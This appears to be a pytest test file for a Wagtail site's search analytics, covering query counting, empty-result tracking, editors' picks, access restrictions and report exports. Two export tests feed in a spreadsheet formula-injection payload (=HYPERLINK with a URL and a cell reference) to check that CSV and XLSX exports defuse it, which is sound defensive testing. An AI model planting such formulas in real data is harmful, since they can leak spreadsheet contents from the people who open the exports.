"""Editors see what staff search for and what finds nothing, and can promote pages for a query."""

import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.search_promotions.models import Query, QueryDailyHits, SearchPromotion
from wagtail.models import PageViewRestriction

from search.analytics import pending, record_search
from search.models import NoResultsDailyHits


@pytest.fixture
def editor_client(log_in_editor, tree):
    return log_in_editor("add_searchpromotion")


def no_results_hits(query_string):
    return sum(
        NoResultsDailyHits.objects.filter(query__query_string=query_string).values_list(
            "hits", flat=True
        )
    )


def test_searches_are_counted_and_empty_ones_noted(tree, add_showcase, staff_client):
    add_showcase(title="Kompetensutbyte inom förskolan")
    staff_client.get("/sok/", {"q": "förskolan"})
    staff_client.get("/sok/", {"q": "Förskolan "})
    staff_client.get("/sok/", {"q": "zanzibar"})
    assert Query.get("förskolan").hits == 2
    assert no_results_hits("förskolan") == 0
    assert no_results_hits("zanzibar") == 1


def test_a_search_is_answered_before_it_is_counted(tree, add_showcase, staff_client, settings):
    settings.STRATEGY_SEARCH_STATS_DELAY = 60
    add_showcase(title="Kompetensutbyte inom förskolan")
    staff_client.get("/sok/", {"q": "förskolan"})
    staff_client.get("/api/search/", {"q": "Förskolan"})
    staff_client.get("/sok/", {"q": "zanzibar"})
    assert not QueryDailyHits.objects.exists()
    pending.write()
    assert Query.get("förskolan").hits == 2
    assert no_results_hits("förskolan") == 0
    assert no_results_hits("zanzibar") == 1


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_searches_are_counted_shortly_after_by_a_thread_of_their_own(settings):
    """The writing thread has a database connection of its own, so the test commits."""
    settings.STRATEGY_SEARCH_STATS_DELAY = 0.05
    record_search("zanzibar", 0)
    record_search("Zanzibar ", 0)
    writing_thread = pending.timer
    # Waiting for the thread rather than polling the tables: SQLite's in-memory test database
    # refuses a read while another connection writes ("database table is locked").
    writing_thread.join(timeout=60)  # a bound for a stalled thread, not a speed target
    assert not writing_thread.is_alive()
    assert Query.get("zanzibar").hits == 2
    assert no_results_hits("zanzibar") == 2


def test_further_result_pages_are_not_counted_again(tree, add_showcase, staff_client):
    for number in range(25):
        add_showcase(title=f"Utbyte nummer {number}")
    staff_client.get("/sok/", {"q": "utbyte"})
    staff_client.get("/sok/", {"q": "utbyte", "page": 2})
    assert Query.get("utbyte").hits == 1


def test_editors_pick_is_shown_first(tree, add_showcase, staff_client):
    pick = add_showcase(title="Erasmus+ för förskolor")
    SearchPromotion.objects.create(query=Query.get("erasmus"), page=pick, description="Börja här.")
    html = staff_client.get("/sok/", {"q": "erasmus"}).content.decode()
    assert html.index("Redaktionen rekommenderar") < html.index('class="search-results"')
    assert "Börja här." in html


def test_a_pick_added_or_removed_after_a_search_shows_on_the_next_search(
    tree, add_showcase, staff_client, django_capture_on_commit_callbacks
):
    pick = add_showcase(title="Erasmus+ för förskolor")

    def search():
        return staff_client.get("/sok/", {"q": "Erasmus"}).content.decode()

    assert "Börja här." not in search()
    with django_capture_on_commit_callbacks(execute=True):
        promotion = SearchPromotion.objects.create(
            query=Query.get("erasmus"), page=pick, description="Börja här."
        )
    assert "Börja här." in search()
    with django_capture_on_commit_callbacks(execute=True):
        promotion.delete()
    assert "Börja här." not in search()


def test_editors_pick_behind_a_restriction_is_not_shown_to_others(tree, add_showcase, staff_client):
    secret = add_showcase(title="Hemlig förhandling")
    restriction = PageViewRestriction.objects.create(
        page=secret, restriction_type=PageViewRestriction.GROUPS
    )
    restriction.groups.add(Group.objects.create(name="Samordnare"))
    SearchPromotion.objects.create(query=Query.get("förhandling"), page=secret)
    html = staff_client.get("/sok/", {"q": "förhandling"}).content.decode()
    assert "Redaktionen rekommenderar" not in html
    assert "Hemlig förhandling" not in html


def test_editors_see_popular_and_empty_searches_in_the_admin(tree, staff_client, editor_client):
    for query in ("strategi", "strategi", "zanzibar"):
        staff_client.get("/sok/", {"q": query})
    popular = editor_client.get(reverse("search_reports:popular")).content.decode()
    assert "strategi" in popular and "zanzibar" in popular
    empty = editor_client.get(reverse("search_reports:no_results")).content.decode()
    assert "zanzibar" in empty and "strategi" not in empty


def test_staff_without_the_editor_permission_cannot_open_the_reports(
    tree, client, django_user_model
):
    user = django_user_model.objects.create_user("medarbetare2", password="lösenord-123")
    group = Group.objects.create(name="Admin utan sök")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(group)
    client.force_login(user)
    response = client.get(reverse("search_reports:no_results"))
    assert response.status_code in (302, 403)


@pytest.mark.parametrize("report", ["search_reports:popular", "search_reports:no_results"])
def test_exported_queries_cannot_run_as_spreadsheet_formulas(
    tree, staff_client, editor_client, report
):
    attack = '=HYPERLINK("http://127.0.0.1/x?"&A1,"klicka")'
    staff_client.get("/sok/", {"q": attack})
    exported = b"".join(editor_client.get(reverse(report), {"export": "csv"})).decode()
    rows = exported.splitlines()[1:]
    assert rows and all(not row.lstrip('"').startswith(("=", "+", "-", "@")) for row in rows)
    assert "hyperlink" in exported.lower()


@pytest.mark.parametrize("report", ["search_reports:popular", "search_reports:no_results"])
def test_exported_queries_come_back_as_text_cells_in_xlsx(
    tree, staff_client, editor_client, report
):
    attack = '=HYPERLINK("http://127.0.0.1/x?"&A1,"klicka")'
    staff_client.get("/sok/", {"q": attack})
    exported = b"".join(editor_client.get(reverse(report), {"export": "xlsx"}))
    [query_cell, _hits] = list(load_workbook(io.BytesIO(exported)).active.iter_rows(min_row=2))[0]
    assert (query_cell.value, query_cell.data_type) == (Query.get(attack).query_string, "s")
